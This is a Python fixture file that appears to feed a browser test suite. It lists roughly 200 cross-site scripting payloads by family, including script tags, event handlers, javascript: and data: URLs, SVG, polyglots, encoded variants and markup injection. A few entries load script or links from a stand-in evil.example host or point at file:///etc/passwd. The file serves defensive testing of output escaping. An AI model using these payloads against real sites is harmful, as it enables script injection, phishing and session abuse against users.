"""About 200 cross-site scripting payloads, by family, for tests/browser/test_xss.py.

Each family is what an attacker tries against a page that might echo a field: script tags (plain,
cased, split, nested), event handlers on every tag that takes them, ``javascript:`` and ``data:``
URLs (cased, entity-encoded, with whitespace and control characters), SVG and MathML, markup that
breaks out of an attribute, a textarea, a title, a comment or a JSON block, polyglots, and Unicode
escapes of angle brackets and quotes. Every payload calls ``alert``/``confirm``/``prompt`` or sets
``document.title`` to XSS, so a payload that runs shows up as a dialog (or a changed title).
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<ScRiPt>confirm(3)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>document.title='XSS'</script>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<<script>alert(5)//<</script>",
    "<script/x>alert(6)</script>",
    "<script\n>alert(7)</script>",
    "<script>alert`8`</script>",
    "</script><script>alert(9)</script>",
    "<script type=module>alert(10)</script>",
    "<script>eval(atob('YWxlcnQoMTEp'))</script>",
    "<script>window['al'+'ert'](12)</script>",
    "<script>setTimeout('alert(13)')</script>",
    "<script>prompt(14)</script>",
    "<script>\\u0061lert(15)</script>",
    "<script>/*</script><script>*/alert(16)</script>",
    '<noscript><p title="</noscript><script>alert(17)</script>">',
    "<template><script>alert(18)</script></template>",
]

TAGS = ["img", "svg", "body", "video", "audio", "iframe", "input", "details", "marquee", "div",
        "a", "object", "select", "textarea", "keygen", "style", "xss", "image", "frameset",
        "math"]  # fmt: skip
EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart", "onclick",
          "onanimationstart", "onbegin", "onpointerenter"]  # fmt: skip


def _event_handlers() -> list[str]:
    found = []
    for number, tag in enumerate(TAGS):
        event = EVENTS[number % len(EVENTS)]
        found.append(f"<{tag} src=x {event}=alert({100 + number})>")
        found.append(f"<{tag} {EVENTS[(number + 3) % len(EVENTS)]}=\"confirm({200 + number})\" "
                     "autofocus tabindex=1 open>")  # fmt: skip
        found.append(f"<{tag.upper()} SRC=x ONERROR='prompt({300 + number})'>")
    return found


JAVASCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(2)",
    " javascript:alert(3)",
    "\tjavascript:alert(4)",
    "java\tscript:alert(5)",
    "java\nscript:alert(6)",
    "javascript&#58;alert(7)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(8)",
    "&#x6A;avascript:alert(9)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(10)>",
    "javascript://%0Aalert(11)",
    "javascript:alert%2812%29",
    "vbscript:msgbox(13)",
    "data:text/html,<script>alert(14)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxNSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(16)>",
    "file:///etc/passwd",
    "\x01javascript:alert(18)",
    "jav&#x09;ascript:alert(19)",
    "javascript&colon;alert(20)",
    '<a href="javascript:alert(21)">click</a>',
    "<a href=javascript&colon;alert(22)>click</a>",
    "<form action=javascript:alert(23)><button>go</button></form>",
    '<iframe src="javascript:alert(24)"></iframe>',
    '<object data="javascript:alert(25)"></object>',
    '<embed src="javascript:alert(26)">',
    '<base href="javascript:alert(27)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(28)">',
    "<link rel=import href=data:text/html,<script>alert(29)</script>>",
    "<isindex action=javascript:alert(30) type=image>",
]

SVG = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(2)>",
    "<svg><script>alert(3)</script></svg>",
    "<svg><script href=data:,alert(4) />",
    "<svg><animate onbegin=alert(5) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(6)"><text x=20 y=20>XSS</text></a></svg>',
    "<svg><set attributeName=onmouseover to=alert(7)>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(8)</script>"></foreignObject></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(9)' /></svg>#x\" />",
    "<svg><style>@import 'javascript:alert(10)';</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>",
    '<math href="javascript:alert(12)">CLICK</math>',
    "<svg><desc><![CDATA[</desc><script>alert(13)</script>]]></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(14)"/>',
    "<svg><title><!--</title><img src=x onerror=alert(15)>-->",
]

ATTRIBUTE_BREAKERS = [
    '"><script>alert(1)</script>',
    "'><script>alert(2)</script>",
    '" onmouseover="alert(3)',
    "' onmouseover='alert(4)",
    '" autofocus onfocus="alert(5)',
    '"><img src=x onerror=alert(6)>',
    "'><svg onload=alert(7)>",
    "`><img src=x onerror=alert(8)>",
    '" style="background:url(javascript:alert(9))',
    "</title><script>alert(10)</script>",
    "</textarea><script>alert(11)</script>",
    "</style><script>alert(12)</script>",
    "--><script>alert(13)</script><!--",
    "]]><script>alert(14)</script>",
    "</script><img src=x onerror=alert(15)>",
    "{{constructor.constructor('alert(16)')()}}",
    "${alert(17)}",
    "{% debug %}{{ 7*7 }}",
    '"}]}</script><script>alert(19)</script>',
    "'-alert(20)-'",
    '\\"-alert(21)}//',
    "</code></pre><script>alert(22)</script>",
    "</dd></dl><img src=x onerror=alert(23)>",
    "</a><a href=javascript:alert(24)>x</a>",
    '" href="javascript:alert(25)',
]

POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "'\"><img src=x onerror=alert(2)>{{7*7}}<svg/onload=alert(2)>",
    "\"'--></style></script><script>alert(3)</script>",
    "';alert(4);//\";alert(4);//--></SCRIPT>\">'><SCRIPT>alert(4)</SCRIPT>",
    '<!--<img src="--><img src=x onerror=alert(5)//">',
    '<img src="x` `<script>alert(6)</script>"` `>',
    '<a"/onclick=(confirm)()>click',
    "<details open ontoggle=alert(8)>",
    '<iframe srcdoc="&lt;img src=x onerror=alert(9)&gt;"></iframe>',
    "<body/onload=alert(10)>",
    "<input onfocus=alert(11) autofocus>",
    "<select autofocus onfocus=alert(12)>",
    "<marquee onstart=alert(13)>",
    '<video><source onerror="alert(14)">',
    "<audio src=x onerror=alert(15)>",
    '<div style="animation-name:x" onanimationstart="alert(16)"></div>',
    "<xss id=x tabindex=1 onfocus=alert(17)></xss>",
    "<img src=1 onerror=\"document.title='XSS'\">",
    "<style>*{background:url('javascript:alert(19)')}</style>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">x</a>',
]

UNICODE_ESCAPES = [
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(2)\\x3c/script\\x3e",
    "&lt;script&gt;alert(3)&lt;/script&gt;",
    "&#60;script&#62;alert(4)&#60;/script&#62;",
    "%3Cscript%3Ealert(5)%3C/script%3E",
    "%253Cscript%253Ealert(6)%253C/script%253E",
    "＜script＞alert(7)＜/script＞",
    "\uff1cimg src=x onerror=alert(8)\uff1e",
    "\u2028<script>alert(9)</script>\u2029",
    # a control character inside the tag name (NUL itself is refused at ingest on both backends,
    # PostgreSQL cannot store it: tests/web/test_nul_input.py, tests/test_bad_input.py)
    "<scr\u0001ipt>alert(10)</script>",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(11)">',
    "<img src=x onerror=\\u0061lert(12)>",
    "\ufeff<script>alert(13)</script>",
    "<\u0131mg src=x onerror=alert(14)>",
    "\u202e<script>alert(15)</script>",
    "+ADw-script+AD4-alert(16)+ADw-/script+AD4-",
    "<img src=x onerror=alert&#40;17&#41;>",
    '<a href="jav&#x61;script:alert(18)">x</a>',
    '\\"><script>alert(19)</script>',
    "<svg><script>&#97;lert(20)</script></svg>",
]

MARKUP_INJECTION = [
    "<b>bold</b><i>italic</i>",
    "<h1>Injected heading</h1>",
    "<form action=/accounts/logout/ method=post><button>Sign out</button></form>",
    '<img src="https://evil.example/track.png">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<div style="position:fixed;inset:0;background:red">overlay</div>',
    '<a href="https://evil.example/" target=_blank>phish</a>',
    "<input type=hidden name=csrfmiddlewaretoken value=forged>",
    "<table><tr><td><plaintext>",
    "<!-- <script>alert(10)</script> -->",
]

PAYLOADS: list[str] = [
    *SCRIPT_TAGS, *_event_handlers(), *JAVASCRIPT_URLS, *SVG, *ATTRIBUTE_BREAKERS, *POLYGLOTS,
    *UNICODE_ESCAPES, *MARKUP_INJECTION,
]  # fmt: skip
